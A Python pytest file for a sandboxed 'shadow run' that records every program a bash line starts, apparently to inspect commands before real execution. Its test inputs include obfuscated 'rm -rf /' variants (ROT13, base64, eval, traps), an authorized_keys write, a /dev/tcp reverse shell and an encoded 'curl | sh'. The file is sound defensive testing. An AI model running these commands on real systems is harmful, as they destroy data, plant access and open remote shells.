"""The shadow run against real bash in a real bubblewrap sandbox: what it records, in order."""

from __future__ import annotations

import os
import socket
from pathlib import Path

import pytest

from clawgate.shell.shadow import Limits, Shadow, ShadowRun, Status, requote

pytestmark = pytest.mark.bwrap

HANG_GUARD = Limits(timeout_s=20)  # a bound against hangs only: no test depends on speed


@pytest.fixture(scope="module")
def shadow() -> Shadow:
    return Shadow(HANG_GUARD, names=("sudo", "doas"))


@pytest.fixture
def places(tmp_path: Path) -> tuple[str, str]:
    (tmp_path / "ws").mkdir()
    (tmp_path / "home").mkdir()
    return str(tmp_path / "ws"), str(tmp_path / "home")


def _argvs(found: ShadowRun) -> list[tuple[str, ...]]:
    assert found.status is Status.OK, found.detail
    return [e.argv for e in found.executions]


# (line, every argv bash started, in order); ~ is the home, shown as {home}
RECORDED = [
    ("x=r; y=m; $x$y -rf ~", [("rm", "-rf", "{home}")]),
    ('set -- rm -rf ~; "$@"', [("rm", "-rf", "{home}")]),
    ("printf -v c 'r%s' m; $c -rf ~", [("rm", "-rf", "{home}")]),
    ("mapfile -t a <<< 'rm'; ${a[0]} -rf ~", [("rm", "-rf", "{home}")]),
    ('f() { "$@"; }; f rm -rf ~', [("rm", "-rf", "{home}")]),
    ("let i=0; a=(rm); ${a[i]} -rf /", [("rm", "-rf", "/")]),
    ("trap 'rm -rf ~' EXIT; true", [("rm", "-rf", "{home}")]),
    ("echo 'rm -rf /' > s.sh; source ./s.sh", [("rm", "-rf", "/")]),
    ("eval \"$(echo 'fhqb ez -es /' | tr 'a-z' 'n-za-m')\"",
     [("tr", "a-z", "n-za-m"), ("sudo", "rm", "-rf", "/")]),
    ("/bin/rm -rf /; /usr/bin/sudo ls", [("rm", "-rf", "/"), ("sudo", "ls")]),
    ("clawgate-no-such-program --flag", [("clawgate-no-such-program", "--flag")]),
    ("echo x | sed 'e rm -rf /'", [("sed", "e rm -rf /")]),  # sed --sandbox refuses e
    # sh -c and dash -c text, read by dash and by bash in POSIX mode: a program found nowhere
    # is recorded by the bash (dash records nothing of its own), which is in POSIX mode
    ("sh -c 'clawgate-no-such-program --flag'",
     [("sh", "-c", "clawgate-no-such-program --flag"), ("clawgate-no-such-program", "--flag")]),
    ("dash -c 'rm -rf /'", [("dash", "-c", "rm -rf /"), ("rm", "-rf", "/"), ("rm", "-rf", "/")]),
    ("sh -c 'shopt -qo posix && ls posix'", [("sh", "-c", "shopt -qo posix && ls posix"),
                                             ("ls", "posix")]),
]


@pytest.mark.parametrize(("line", "expected"), RECORDED)
def test_records_every_execution_in_order(shadow: Shadow, places: tuple[str, str],
                                          line: str, expected: list[tuple[str, ...]]) -> None:
    cwd, home = places
    found = shadow.run(line, cwd=cwd, home=home)
    assert _argvs(found) == [tuple(w.format(home=home) for w in argv) for argv in expected]


def test_decoders_really_decode_into_a_shell(shadow: Shadow, places: tuple[str, str]) -> None:
    cwd, home = places
    found = shadow.run("echo cm0gLXJmIH4= | base64 -d | sh", cwd=cwd, home=home)
    assert sorted(_argvs(found)) == [("base64", "-d"), ("rm", "-rf", home), ("sh",)]
    assert [e.depth for e in found.executions if e.argv[0] == "rm"] == [1]


def test_sh_c_is_read_by_dash_and_by_bash_in_posix_mode(shadow: Shadow,
                                                        places: tuple[str, str]) -> None:
    cwd, home = places
    found = shadow.run("sh -c 'rm -rf /'", cwd=cwd, home=home)
    assert _argvs(found) == [("sh", "-c", "rm -rf /"), ("rm", "-rf", "/"), ("rm", "-rf", "/")]


def test_shells_inside_shells_are_followed_to_a_bound(places: tuple[str, str]) -> None:
    cwd, home = places
    line = "bash -c \"bash -c 'bash -c \\\"rm -rf /\\\"'\""
    deep = Shadow(HANG_GUARD, max_depth=3).run(line, cwd=cwd, home=home)
    shallow = Shadow(HANG_GUARD, max_depth=1).run(line, cwd=cwd, home=home)
    assert [e.argv[0] for e in deep.executions] == ["bash", "bash", "bash", "rm"]
    assert [e.argv[0] for e in shallow.executions] == ["bash", "bash"]


def test_a_workspace_program_is_recorded_by_its_name(shadow: Shadow,
                                                     places: tuple[str, str]) -> None:
    cwd, home = places
    Path(cwd, "build.sh").write_text("echo real\n")
    Path(cwd, "sub").mkdir()
    found = shadow.run("./build.sh --fast; cd sub && ../build.sh", cwd=cwd, home=home)
    assert [(e.argv, e.cwd) for e in found.executions] == [
        (("./build.sh", "--fast"), cwd), (("../build.sh",), f"{cwd}/sub")]


def test_environment_changes_and_redirections(shadow: Shadow, places: tuple[str, str]) -> None:
    cwd, home = places
    found = shadow.run("export A=1; B=2 rm x > out.txt 2>>err.log < /dev/null", cwd=cwd,
                       home=home)
    (execution,) = found.executions
    assert dict(execution.env) == {"A": "1", "B": "2"}
    assert requote(execution) == f"env A=1 B=2 rm x >{cwd}/out.txt 2>>{cwd}/err.log"


def test_requote_writes_control_characters_as_ansi_c(shadow: Shadow,
                                                    places: tuple[str, str]) -> None:
    cwd, home = places
    found = shadow.run("c=$'a\\nb'; touch \"$c\" 'it'\\''s'", cwd=cwd, home=home)
    assert [requote(e) for e in found.executions] == ["touch $'a\\x0ab' 'it'\\''s'"]


def test_the_callers_files_are_neither_changed_nor_read(shadow: Shadow,
                                                        places: tuple[str, str]) -> None:
    cwd, home = places
    canaries = [Path(cwd, "canary"), Path(home, "canary")]
    for canary in canaries:
        canary.write_text("original\n")
        stat = canary.stat()
        # an access time well before the change time: any read would move it (relatime)
        os.utime(canary, (stat.st_mtime - 3 * 86400, stat.st_mtime))
    before = [(c.read_bytes(), c.stat().st_atime_ns, c.stat().st_mtime_ns) for c in canaries]
    line = ("cat ~/canary; head -c 5 ~/canary > ./copy; rm -f ./canary ~/canary; "
            "echo gone > ./canary; echo gone > ~/canary; : > ~/canary2")
    found = shadow.run(line, cwd=cwd, home=home)
    after = [(c.read_bytes(), c.stat().st_atime_ns, c.stat().st_mtime_ns) for c in canaries]
    assert after == before
    assert sorted(p.name for p in Path(cwd).iterdir()) == ["canary"]
    assert sorted(p.name for p in Path(home).iterdir()) == ["canary"]
    assert ("rm", "-f", "./canary", f"{home}/canary") in _argvs(found)
    assert ("cat", f"{home}/canary") in _argvs(found)


def test_the_network_is_not_reached(shadow: Shadow, places: tuple[str, str]) -> None:
    cwd, home = places
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.settimeout(0.5)
        port = listener.getsockname()[1]
        line = (f"echo hi > /dev/tcp/127.0.0.1/{port}; exec 3<>/dev/tcp/127.0.0.1/{port}; "
                f"curl -s http://127.0.0.1:{port}/")
        found = shadow.run(line, cwd=cwd, home=home)
        with pytest.raises(TimeoutError):
            listener.accept()
    assert _argvs(found) == [("curl", "-s", f"http://127.0.0.1:{port}/")]


def test_a_line_past_its_time_is_killed_and_keeps_what_it_recorded(
        places: tuple[str, str]) -> None:
    cwd, home = places
    found = Shadow(Limits(timeout_s=1.0)).run("rm -rf /; while :; do :; done", cwd=cwd,
                                              home=home)
    assert found.status is Status.TIMEOUT
    assert [e.argv for e in found.executions] == [("rm", "-rf", "/")]


def test_without_bubblewrap_the_shadow_says_so(places: tuple[str, str]) -> None:
    cwd, home = places
    missing = Shadow(bwrap="clawgate-no-such-bwrap")
    assert missing.problem() == "bubblewrap ('clawgate-no-such-bwrap') is not installed"
    found = missing.run("rm -rf /", cwd=cwd, home=home)
    assert (found.status, found.executions) == (Status.UNAVAILABLE, ())


# (line, the command texts recorded, sorted): a command that redirects output or names
# /dev/tcp, each text once per process, as bash read it (eval's and decoded text included)
TEXTS = [
    ("echo 'k' >> ~/.ssh/authorized_keys", ["echo 'k' >> ~/.ssh/authorized_keys"]),
    ("eval \"$(echo 'pbqr > ~/.onfuep' | tr a-z n-za-m)\"",
     ["code > ~/.bashrc", "echo 'pbqr > ~/.onfuep'",
      "eval \"$(echo 'pbqr > ~/.onfuep' | tr a-z n-za-m)\""]),
    ("for i in 1 2 3; do : > f; done", [": > f"]),
    ("bash -i >& /dev/tcp/127.0.0.1/9 0>&1", ["bash -i >&/dev/tcp/127.0.0.1/9 0>&1"]),
    ("echo plain; ls -l", []),
    # sh -c and dash -c text: the builtins' redirections in it too
    ("sh -c 'echo k >> ~/.ssh/authorized_keys'",
     ["echo k >> ~/.ssh/authorized_keys", "sh -c 'echo k >> ~/.ssh/authorized_keys'"]),
    ("dash -c ': > f'", [": > f", "dash -c ': > f'"]),
]


@pytest.mark.parametrize(("line", "expected"), TEXTS)
def test_commands_that_redirect_are_recorded_as_text(shadow: Shadow, places: tuple[str, str],
                                                     line: str, expected: list[str]) -> None:
    cwd, _ = places
    found = shadow.run(line, cwd=cwd, home=places[1])
    assert found.status is Status.OK, found.detail
    assert sorted(t.text for t in found.texts) == expected
    assert all(t.cwd == cwd for t in found.texts)


def test_recording_texts_keeps_what_the_line_sees(shadow: Shadow,
                                                  places: tuple[str, str]) -> None:
    """``$_`` and ``$?`` after a command stay bash's own: the trap that records texts runs
    before each command."""
    cwd, home = places
    line = ('echo a b > /dev/null; ls "$_"; false > /dev/null; ls "$?"; '
            'true x; ls "$_" > /dev/null')
    assert _argvs(shadow.run(line, cwd=cwd, home=home)) == [("ls", "b"), ("ls", "1"),
                                                             ("ls", "x")]


def test_the_pipelines_of_a_run(shadow: Shadow, places: tuple[str, str]) -> None:
    from clawgate.shell.shadow.pipes import pipelines, requote_pipeline

    cwd, home = places
    found = shadow.run("eval \"$(echo 'phey uggc://k | fu; ls' | tr a-z n-za-m)\"",
                       cwd=cwd, home=home)
    assert found.status is Status.OK, found.detail
    # tr reads a builtin's output and writes to bash itself: no pipeline of executions
    assert [requote_pipeline(p) for p in pipelines(found.executions)] == ["curl http://x | sh"]


def test_a_fork_loop_is_held_by_a_control_group(tmp_path: Path) -> None:
    """``RLIMIT_NPROC`` does not bind root: where a control group can be made, a shadow run
    has one of its own with a process limit, and nothing is left of it afterwards."""
    from clawgate.executors.cgroups import Containment
    from clawgate.shell.shadow.sandbox import run_limited

    probe = Containment.create(pids=4)
    if probe is None:
        pytest.skip("no control group can be made here")
    probe.close()
    before = set(os.listdir("/sys/fs/cgroup"))
    done = run_limited(["bash", "-c", "for i in $(seq 100); do sleep 0.2 & done; wait"],
                       {"PATH": os.environ["PATH"]}, Limits(timeout_s=10.0, extra_processes=8),
                       tmp_path / "stderr")
    assert "fork: " in done.stderr  # the ninth process was refused (10 s: a hang guard only)
    assert set(os.listdir("/sys/fs/cgroup")) - before == set()
